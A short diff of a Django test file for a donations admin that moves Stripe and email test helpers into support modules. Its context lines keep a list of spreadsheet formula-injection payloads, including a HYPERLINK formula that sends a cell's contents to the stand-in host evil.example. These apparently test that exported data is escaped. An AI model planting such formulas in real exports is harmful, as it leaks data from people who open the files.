@@ -13,7 +13,8 @@ from django.test import Client
 from django_tasks_db.models import DBTaskResult
 
 from donations.models import Donation, MonthlyPledge
-from tests.donations.conftest import BASIL, PINNED, event, post_event, run_email_worker, subscription_invoice
+from tests.support.email import run_email_worker
+from tests.support.stripe import BASIL, PINNED, event, post_event, subscription_invoice
 
 INDEX = "/admin/donations/donation/"
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
